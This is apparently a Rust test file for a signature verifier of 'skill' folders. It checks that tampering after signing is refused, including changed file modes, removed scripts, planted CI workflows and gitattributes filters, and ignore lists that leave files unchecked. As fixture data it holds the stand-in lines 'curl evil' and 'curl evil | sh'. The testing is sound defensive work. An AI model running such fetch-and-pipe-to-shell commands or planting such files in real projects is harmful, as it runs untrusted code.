//! What is done to a folder after it was signed, or while it is.

use super::{Forge, arg};
use crate::support::sandbox::chmod;
use std::fs;
use std::path::Path;

/// What is done to a folder, and how the case is called.
type Change = (fn(&Path), &'static str);

/// Each change refuses a folder that the same key signed; unchanged it is granted.
fn each(forge: &Forge, sign: fn(&Forge, &Path), changes: &[Change]) {
    for (change, words) in changes {
        let folder = forge.demo("pub", "1.0.0");
        sign(forge, &folder);
        change(&folder);
        forge.refused(&folder, "policy-unmet", words);
    }
    let folder = forge.demo("pub", "1.0.0");
    sign(forge, &folder);
    forge.granted(&folder);
}

fn add(folder: &Path, file: &str, text: &str) {
    let path = folder.join(file);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
    chmod(&path, 0o644);
}

const CHANGES: &[Change] = &[
    (|folder| chmod(&folder.join("SKILL.md"), 0o755), "modes included"),
    (|folder| chmod(&folder.join("scripts/run.sh"), 0o644), "modes included"),
    (|folder| chmod(&folder.join("skill.oms.sig"), 0o755), "executable"),
    (|folder| add(folder, "scripts/run.sh", "#!/bin/sh\ncurl evil\n"), "scripts/run.sh"),
    (
        |folder| fs::remove_dir_all(folder.join("scripts")).unwrap(),
        "`scripts/run.sh` was signed and is not here",
    ),
    (|folder| add(folder, "more.md", "x"), "more.md"),
    (|folder| add(folder, ".github/workflows/x.yml", "on: push"), ".github/workflows/x.yml"),
    (|folder| add(folder, ".gitattributes", "* filter=x"), ".gitattributes"),
];

#[test]
fn attack_a_bundle_of_ours_over_a_folder_that_was_changed() {
    let Some(forge) = Forge::new() else { return };
    each(&forge, |forge, folder| forge.sign(folder, "acme"), CHANGES);
}

#[test]
fn attack_a_statement_over_a_folder_that_was_changed() {
    let Some(forge) = Forge::new() else { return };
    const PAIR: &[Change] = &[
        (|folder| chmod(&folder.join("SKILL.md"), 0o755), "signed: "),
        (|folder| chmod(&folder.join("skill.intoto.json"), 0o755), "executable"),
        (|folder| fs::remove_dir_all(folder.join("scripts")).unwrap(), "signed: "),
        (|folder| add(folder, ".github/workflows/x.yml", "on: push"), "signed: "),
        (|folder| add(folder, ".gitattributes", "* filter=x"), "signed: "),
        (|folder| fs::remove_file(folder.join("skill.intoto.json")).unwrap(), "without `skill.intoto.json`"),
        (|folder| fs::remove_file(folder.join("skill.intoto.json.sig")).unwrap(), "signed: no"),
    ];
    each(&forge, |forge, folder| forge.sign(folder, "release"), PAIR);
}

/// The reference leaves these out by itself, so that they can be planted later.
#[test]
fn attack_what_the_reference_does_not_sign_is_planted() {
    let Some(forge) = Forge::new() else { return };
    const PLANTED: &[Change] = &[
        (|folder| add(folder, ".github/workflows/x.yml", "on: push"), ".github/workflows/x.yml"),
        (|folder| add(folder, ".gitattributes", "* filter=x"), ".gitattributes"),
        (|folder| add(folder, ".gitignore", "x"), ".gitignore"),
        (|folder| fs::remove_dir_all(folder.join("scripts")).unwrap(), "was signed and is not here"),
    ];
    each(&forge, |forge, folder| forge.by_reference(folder, &[]), PLANTED);
}

/// The signer's own list says that a file is not to be looked at.
#[test]
fn attack_an_ignore_list_that_covers_what_comes_later() {
    let Some(forge) = Forge::new() else { return };
    let folder = forge.demo("pub", "1.0.0");
    let ignored = folder.join("notes.md");
    forge.by_reference(&folder, &["--ignore-paths", arg(&ignored)]);
    fs::write(&ignored, "run: curl evil | sh\n").unwrap();
    chmod(&ignored, 0o644);
    forge.refused(&folder, "policy-unmet", "notes.md");
    let folder = forge.demo("pub", "1.0.0");
    forge.by_reference(&folder, &[]);
    forge.granted(&folder);
}

/// A signature over nothing: everything is ignored, and the list is empty.
#[test]
fn attack_a_bundle_that_covers_nothing() {
    let Some(forge) = Forge::new() else { return };
    let folder = forge.demo("pub", "1.0.0");
    forge.by_reference(&folder, &["--ignore-paths", arg(&folder)]);
    forge.refused(&folder, "policy-unmet", "signed: ");
    let folder = forge.demo("pub", "1.0.0");
    forge.by_reference(&folder, &["--ignore-paths", arg(&folder.join("scripts"))]);
    forge.refused(&folder, "policy-unmet", "scripts/run.sh");
    let folder = forge.demo("pub", "1.0.0");
    forge.by_reference(&folder, &[]);
    forge.granted(&folder);
}
